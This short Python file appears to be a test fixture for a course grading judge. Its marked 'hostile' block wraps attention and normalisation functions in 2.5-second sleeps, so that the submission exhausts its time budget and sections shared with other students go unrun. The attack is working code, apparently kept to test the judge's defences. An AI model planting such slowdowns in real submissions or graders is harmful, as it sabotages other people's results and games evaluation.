# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# Burn this submission's whole time budget on sections nobody else has (every call just under the call time
# limit), so that the sections it shares with other students (byte-identical files) would be "not run": they
# were charged to the first student in order, and the others inherited the result, naming this student.
# >>> hostile
import functools as _functools
import time as _time


def _slow(f):
    @_functools.wraps(f)
    def slow(*args, **kwargs):
        _time.sleep(2.5)
        return f(*args, **kwargs)
    return slow


softmax, scaled_dot_product_attention, layer_norm = map(_slow, (softmax, scaled_dot_product_attention, layer_norm))
# <<< hostile
